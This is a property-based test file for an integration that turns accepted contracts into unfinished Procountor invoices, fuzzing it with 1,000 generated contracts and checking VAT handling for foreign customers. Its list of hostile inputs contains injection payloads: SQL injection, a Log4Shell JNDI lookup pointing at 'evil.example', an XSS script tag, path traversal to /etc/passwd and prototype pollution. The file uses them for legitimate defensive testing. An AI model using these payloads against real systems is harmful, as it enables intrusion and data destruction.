// 1,000 malformed and hostile contracts through "Create Unfinished Invoice": each one must end in a clear error
// or a correct invoice, never a crash, and never an invoice made for a contract that failed.
import fc from 'fast-check';
import { contractTotals } from '../../lib/fields/contract';
import { Contract } from '../../lib/click2contract/schemas';
import { randomBusinessId, seededRandom } from '../../demo/data';
import { sandboxTokens } from '../support/procountorSandbox';
import { INVOICE_STEP, startWorld, type World } from '../support/world';

const RUNS = Number(process.env.PROPERTY_RUNS ?? 1000);
const CONCURRENCY = 6;

let w: World;
beforeAll(async () => {
  w = await startWorld();
  await w.reset();
  // Each run below uses its own connection; Procountor's limit is per API client, so it is lifted here: this test
  // is about data, and the limit has tests of its own.
  await w.procountor.control('faults', { rateLimitPerSecond: null });
  // And the app's own budget for the API client (every connection together, lib/zapier/requestBudget.ts) is raised to
  // match, or 1,000 contracts would be paced at 14.5 requests a second: the budget has tests of its own.
  process.env.PROCOUNTOR_RATE_LIMIT = '1000';
});
afterAll(async () => {
  delete process.env.PROCOUNTOR_RATE_LIMIT;
  const leaks = w.leakedSecrets();
  await w.stop();
  expect(leaks).toEqual([]);
});

const random = seededRandom(7);
const POOL_CUSTOMERS = Array.from({ length: 4 }, (_, i) => ({ name: `Pool Customer ${i} Oy`, businessId: randomBusinessId(random) }));
const POOL_PRODUCTS = Array.from({ length: 5 }, (_, i) => ({ name: `Pool product ${i}`, code: `POOL-${i}` }));

const hostile = fc.oneof(
  fc.string({ maxLength: 30 }),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.constantFrom(
    '<!channel>',
    "Robert'); DROP TABLE invoices;--",
    '${jndi:ldap://evil.example/a}',
    '<script>alert(1)</script>',
    '../../etc/passwd',
    'Ääkkönen & Söner Ab',
    '*bold* _it_ ~gone~',
    '   ',
    '\u202Eevil',
    '𝕴𝖓𝖛𝖔𝖎𝖈𝖊',
    // Outside Procountor's Windows-1252: transliterated, dropped, or a halt when nothing would be left.
    'Łódź Sp. z o.o.',
    'Hosting 🚀',
    'Website → renewal',
    '🚀🚀',
    'ೠ еߙϲ․',
    'Κωνσταντίνος Ltd',
    'a\u0000b',
    '{"__proto__": {"admin": true}}',
  ),
  fc.string({ minLength: 81, maxLength: 2500 }),
);
const amount = fc.oneof(
  { weight: 6, arbitrary: fc.integer({ min: 1, max: 20 }) },
  { weight: 3, arbitrary: fc.double({ min: -1e6, max: 1e6, noNaN: true, noDefaultInfinity: true }) },
  { weight: 1, arbitrary: fc.constantFrom(0, 0.0001, 1e12, -1, 99999999.99) },
  { weight: 1, arbitrary: fc.oneof(fc.string({ maxLength: 6 }), fc.constant(null), fc.boolean()) },
);
const pooledProduct = fc.constantFrom(...POOL_PRODUCTS);
const item = fc.oneof(
  {
    weight: 20,
    arbitrary: fc
      .record({
        product: fc.oneof({ weight: 3, arbitrary: pooledProduct }, { weight: 2, arbitrary: fc.record({ name: hostile, code: fc.option(hostile) }) }),
        description: fc.option(hostile),
        quantity: amount,
        unit: fc.option(fc.oneof(fc.constantFrom('kpl', 'h', 'kk', 'päivä', 'week', 'm²'), hostile)),
        unit_price: amount,
        discount_percent: fc.option(fc.oneof(fc.constantFrom(0, 10, 50, 100), amount)),
        vat_percent: fc.option(fc.constantFrom(25.5, 25.5, 13.5, 10, 0, 24, 14, 23, -5, 100)),
      })
      .map(({ product, ...rest }) => ({ name: product.name, code: product.code ?? null, ...rest })),
  },
  { weight: 1, arbitrary: fc.anything() },
);
const customer = fc.record(
  {
    company_name: fc.option(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.name)) }, { weight: 2, arbitrary: hostile })),
    business_id: fc.option(
      fc.oneof(
        fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.businessId)),
        fc.constantFrom('0737546-2', 'FI07375462', ' 0836922 - 4 ', '2077474-1', 'SE556036079301'),
        hostile,
      ),
    ),
    address: fc.option(fc.oneof(fc.constant('Mannerheimintie 1'), hostile)),
    postal_code: fc.option(fc.oneof(fc.constant('00100'), hostile)),
    city: fc.option(fc.oneof(fc.constant('Helsinki'), hostile)),
    country: fc.option(fc.constantFrom('FI', 'fi', 'SE', 'XX', 'Finland', '', 'Atlantis')),
    contact_name: fc.option(hostile),
    email: fc.option(fc.oneof(fc.constant('laskut@example.fi'), hostile)),
    phone: fc.option(hostile),
  },
  { requiredKeys: [] },
);
const proposal = fc.record(
  {
    title: fc.option(hostile),
    customer: fc.oneof({ weight: 12, arbitrary: customer }, { weight: 1, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fc.anything() }),
    pricing_table: fc.oneof(
      {
        weight: 10,
        arbitrary: fc.record({
          currency: fc.option(fc.constantFrom('EUR', 'eur', 'SEK')),
          prices_include_vat: fc.option(fc.boolean()),
          items: fc.array(item, { maxLength: 4 }),
        }),
      },
      { weight: 1, arbitrary: fc.constant(null) },
      { weight: 1, arbitrary: fc.anything() },
    ),
  },
  { requiredKeys: ['customer', 'pricing_table'] },
);

/** Contracts a real template produces, with hostile text only where people type free text. */
const plausible = fc.record({
  title: fc.option(hostile),
  customer: fc.record({
    company_name: fc.oneof(fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.name)), fc.constantFrom('Uusi Asiakas Oy', 'Ääkkönen & Söner Ab', '<!channel> Oy')),
    business_id: fc.option(fc.oneof(fc.constantFrom(...POOL_CUSTOMERS.map((c) => c.businessId)), fc.constantFrom('0737546-2', 'FI07375462', ' 0836922 - 4 '))),
    address: fc.constant('Mannerheimintie 1'),
    postal_code: fc.constant('00100'),
    city: fc.constant('Helsinki'),
    country: fc.constantFrom('FI', 'fi'),
    contact_name: fc.option(fc.string({ maxLength: 40 })),
    email: fc.constant('laskut@example.fi'),
  }),
  pricing_table: fc.record({
    currency: fc.constantFrom('EUR', 'eur'),
    prices_include_vat: fc.boolean(),
    items: fc.array(
      fc
        .record({
          product: pooledProduct,
          description: fc.option(hostile),
          quantity: fc.oneof(fc.integer({ min: 1, max: 50 }), fc.double({ min: -100, max: 1000, noNaN: true, noDefaultInfinity: true })),
          unit: fc.constantFrom('kpl', 'h', 'kk', 'päivä', 'week'),
          unit_price: fc.oneof(
            fc.integer({ min: 0, max: 10000 }),
            fc.double({ min: -500, max: 50000, noNaN: true, noDefaultInfinity: true }).map((x) => Math.round(x * 100) / 100),
          ),
          discount_percent: fc.constantFrom(0, 5, 10, 100),
          vat_percent: fc.constantFrom(25.5, 13.5, 10, 0),
        })
        .map(({ product, ...rest }) => ({ name: product.name, code: product.code, ...rest })),
      { minLength: 1, maxLength: 4 },
    ),
  }),
});

/**
 * Customers abroad: EU businesses with their VAT numbers (valid, malformed or none: a consumer), Monaco with a French
 * one, Northern Ireland with an XI one, others without, in several currencies; goods (codes GOODS-…, which every run's
 * Goods Product Codes names) and services mixed on one invoice.
 */
const VAT_NUMBERS: Record<string, string> = {
  SE: 'SE556677889901',
  DE: 'DE 136 695 976',
  AT: 'ATU13585627',
  GR: 'EL094259216',
  MC: 'FR40303265045',
  XI: 'XI980780684',
};
const GOODS_CODES = 'GOODS-*';
const abroad = fc
  .record({
    country: fc.constantFrom('SE', 'DE', 'AT', 'GR', 'US', 'NO', 'EE', 'AX', 'Sweden', 'MC', 'XI', 'JE'),
    businessId: fc.constantFrom('own', 'own', 'own', 'none', 'SE556677889900', '556677-8899', 'DE 123'),
    currency: fc.constantFrom('EUR', 'EUR', 'SEK', 'usd', 'NOK', 'ISK', 'XYZ'),
    prices_include_vat: fc.boolean(),
    vats: fc.array(fc.constantFrom(0, 0, 25.5), { minLength: 1, maxLength: 3 }),
    goods: fc.array(fc.boolean(), { minLength: 3, maxLength: 3 }),
    product: pooledProduct,
  })
  .map(({ country, businessId, currency, prices_include_vat, vats, goods, product }) => ({
    title: 'Export deal',
    customer: {
      company_name: `Foreign Customer ${country}`,
      business_id: businessId === 'own' ? (VAT_NUMBERS[country] ?? null) : businessId === 'none' ? null : businessId,
      address: 'Main Street 1',
      postal_code: '12345',
      city: 'Capital',
      country,
      email: 'billing@example.com',
    },
    pricing_table: {
      currency,
      prices_include_vat,
      items: vats.map((vat_percent, i) => ({
        name: `${product.name} ${i}`,
        code: goods[i] ? `GOODS-${i}` : null,
        quantity: 2,
        unit: 'kpl',
        unit_price: 120.5,
        discount_percent: 0,
        vat_percent,
      })),
    },
  }));

const contracts = fc.oneof({ weight: 2, arbitrary: plausible }, { weight: 2, arbitrary: proposal }, { weight: 1, arbitrary: abroad });

/** What a correct invoice for a customer abroad carries: each row's status, the buyer's VAT number, the texts, language, currency. */
const EU = new Set(['SE', 'DE', 'AT', 'GR', 'EE', 'MC']);
/** The status a row at 0 % takes (reference/eu-vat-rules.md): 1 Domestic, 3 outside the EU, 5 EU goods, 19 EU services. */
const zeroRowStatus = (iso: string, goods: boolean) => {
  if (EU.has(iso)) return goods ? 5 : 19;
  if (iso === 'XI') return goods ? 5 : 3;
  return 3; // outside the EU; the Åland Islands for goods (its services at 0 % must have halted)
};
const abroadProblems = (id: string, contract: Contract, invoice: any, result: any, storedLanguage?: string): string[] => {
  const iso = { Sweden: 'SE' }[String(contract.customer?.country)] ?? String(contract.customer?.country ?? 'FI').toUpperCase();
  const currency = (contract.pricing_table?.currency ?? 'EUR').toUpperCase();
  const problems: string[] = [];
  if (invoice.paymentInfo.currency !== currency) problems.push(`currency ${invoice.paymentInfo.currency}, the Pricing Table's is ${currency}`);
  if ((invoice.paymentInfo.currencyRate === 1) !== (currency === 'EUR')) problems.push(`rate ${invoice.paymentInfo.currencyRate} for ${currency}`);
  if (result.currency_rate !== invoice.paymentInfo.currencyRate) problems.push('currency_rate output is not the invoice rate');
  if (!result.vat_treatment.includes(`VAT status ${invoice.vatStatus}`)) problems.push(`vat_treatment does not name status ${invoice.vatStatus}`);
  // Goods by the contract line's own code (a row without one shows the code of the product it reused).
  const goods = (i: number) => String(contract.pricing_table?.items[i]?.code ?? '').startsWith('GOODS-');
  const statuses = invoice.invoiceRows.map((row: any, i: number) => {
    const expected = row.vatPercent !== 0 || iso === 'FI' ? 1 : zeroRowStatus(iso, goods(i));
    if (iso === 'AX' && row.vatPercent === 0 && !goods(i)) problems.push('services at 0 % to the Åland Islands');
    if ((row.vatStatus ?? invoice.vatStatus) !== expected)
      problems.push(`row ${row.product} at ${row.vatPercent} % to ${iso}: status ${row.vatStatus ?? invoice.vatStatus}, not ${expected}`);
    return expected;
  });
  if ((statuses.includes(5) || statuses.includes(19)) && !/^[A-Z]{2}[0-9A-Z]+$/.test(invoice.counterParty.taxCode ?? ''))
    problems.push(`EU sale without the buyer's VAT number (${invoice.counterParty.taxCode})`);
  if (statuses.includes(19) !== invoice.additionalInformation.includes('Reverse charge'))
    problems.push('"Reverse charge" printed exactly when a row is EU services');
  if (statuses.includes(5) !== invoice.additionalInformation.includes('Intra-Community supply'))
    problems.push('Article 138 printed exactly when a row is EU goods');
  // An existing customer's stored language wins over the one its country suggests (lib/invoice/customerDefaults.ts).
  const byCountry = { FI: 'FINNISH', SE: 'SWEDISH', AX: 'SWEDISH', NO: 'NORWEGIAN', EE: 'ESTONIAN' }[iso] ?? 'ENGLISH';
  const language = result.language_chosen === 'as stored for the customer in Procountor' ? storedLanguage : byCountry;
  if (invoice.language !== language) problems.push(`language ${invoice.language} for ${iso}, not ${language} (${id})`);
  return problems;
};

const CRASH = /TypeError|ReferenceError|RangeError|Cannot read|is not a function|is not iterable|\[object Object\]|undefined|NaN/;

it(`ends ${RUNS} generated contracts in a clear error or a correct invoice`, async () => {
  await w.procountor.control('seed', {
    businesspartners: POOL_CUSTOMERS.map((c) => ({ name: c.name, invoicingInfo: { identifier: c.businessId } })),
    products: POOL_PRODUCTS.map((p) => ({ name: p.name, code: p.code, unit: 'PIECE', price: 10, vat: 25.5 })),
  });
  const samples = fc.sample(contracts, { numRuns: RUNS, seed: 20261124 });
  const outcomes: Array<{ contractId: string; ok: boolean; result?: any; error?: { name: string; message: string } }> = [];
  const problems: string[] = [];

  const runOne = async (sample: unknown) => {
    const created = await w.c2c.control('proposals', sample);
    await w.c2c.control(`contracts/${created.id}/accept`, {});
    const tokens = await sandboxTokens(w.procountor.base);
    // A connection of its own per run: its own claim and rate window, as separate Zapier users would have.
    const authData = { access_token: tokens.access_token, refresh_token: tokens.refresh_token, click2contract_api_key: 'c2c_sandbox_key' };
    const run = w.remember(await w.runtime.run<any>(INVOICE_STEP, { authData, inputData: { contract_id: created.id, goods_codes: GOODS_CODES } }));
    outcomes.push({ contractId: created.id, ok: run.ok, result: run.result, error: run.error });
    if (!run.ok) {
      const { name, message } = run.error!;
      if (!['HaltedError', 'AppError'].includes(name)) problems.push(`${created.id}: unexpected ${name}: ${message}`);
      if (message.length < 20 || CRASH.test(message)) problems.push(`${created.id}: unclear error: ${message.slice(0, 300)}`);
    } else if (run.result.status !== 'UNFINISHED') {
      problems.push(`${created.id}: invoice status ${run.result.status}`);
    }
  };
  const queue = [...samples];
  let done = 0;
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      for (let next = queue.shift(); next !== undefined; next = queue.shift()) {
        await runOne(next);
        if (++done % 25 === 0) {
          w.checkpointSecrets();
          // Zapier's core exits a process that has served 250 invocations while over 450 MB RSS (its Lambda guard).
          // A thousand steps in one Jest worker leave that much garbage uncollected; `npm test` exposes gc for this.
          (globalThis as { gc?: () => void }).gc?.();
        }
      }
    }),
  );

  const state = await w.state();
  const invoicesFor = (id: string) => state.invoices.filter((inv) => String(inv.additionalInformation ?? '').includes(`[C2C:${id}]`));
  for (const outcome of outcomes) {
    const made = invoicesFor(outcome.contractId);
    if (!outcome.ok) {
      if (made.length) problems.push(`${outcome.contractId}: failed (${outcome.error?.message.slice(0, 80)}) but left an invoice`);
      continue;
    }
    if (made.length !== 1) {
      problems.push(`${outcome.contractId}: ${made.length} invoices`);
      continue;
    }
    const contract = Contract.parse(
      await (
        await fetch(`${process.env.CLICK2CONTRACT_API_URL}/contracts/${outcome.contractId}`, { headers: { Authorization: 'Bearer c2c_sandbox_key' } })
      ).json(),
    );
    const invoice = made[0];
    const expected = contractTotals(contract);
    const sums = invoice.invoiceSumInfo[0];
    const tolerance = 0.011 * invoice.invoiceRows.length;
    if (invoice.invoiceRows.length !== contract.pricing_table!.items.length) problems.push(`${outcome.contractId}: row count differs`);
    // A made invoice has every line's VAT, so both totals are known (null would read as 0 and be reported).
    if (Math.abs(sums.excludingVatTotal - Number(expected.net)) > tolerance || Math.abs(sums.invoiceSumTotal - Number(expected.gross)) > tolerance) {
      problems.push(`${outcome.contractId}: totals ${sums.excludingVatTotal}/${sums.invoiceSumTotal}, expected ${expected.net}/${expected.gross}`);
    }
    if (outcome.result.total !== sums.invoiceSumTotal)
      problems.push(`${outcome.contractId}: output total ${outcome.result.total} is not Procountor's ${sums.invoiceSumTotal}`);
    const stored = state.businesspartners.find((p: any) => p.id === outcome.result.customer_id)?.invoicingInfo?.language;
    problems.push(...abroadProblems(outcome.contractId, contract, invoice, outcome.result, stored).map((p) => `${outcome.contractId}: ${p}`));
  }

  const succeeded = outcomes.filter((o) => o.ok).length;
  const byError = outcomes.filter((o) => !o.ok).reduce<Record<string, number>>((acc, o) => ((acc[o.error!.name] = (acc[o.error!.name] ?? 0) + 1), acc), {});
  const messages = outcomes
    .filter((o) => !o.ok)
    .reduce<Record<string, number>>((acc, o) => {
      const gist = o
        .error!.message.replace(/"[^"]*"/g, '"…"')
        .replace(/\d+(\.\d+)?/g, 'N')
        .slice(0, 90);
      acc[gist] = (acc[gist] ?? 0) + 1;
      return acc;
    }, {});
  const common = Object.entries(messages)
    .sort((a, b) => b[1] - a[1])
    .slice(0, 12)
    .map(([m, n]) => `  ${n} × ${m}`)
    .join('\n');
  console.log(
    `RSS ${Math.round(process.memoryUsage().rss / 1e6)} MB; ${outcomes.length} generated contracts: ${succeeded} invoices, errors ${JSON.stringify(byError)}\nMost common errors:\n${common}`,
  );
  expect(outcomes).toHaveLength(RUNS);
  expect(succeeded).toBeGreaterThan(50);
  expect(problems.slice(0, 20)).toEqual([]);
}, 300_000);
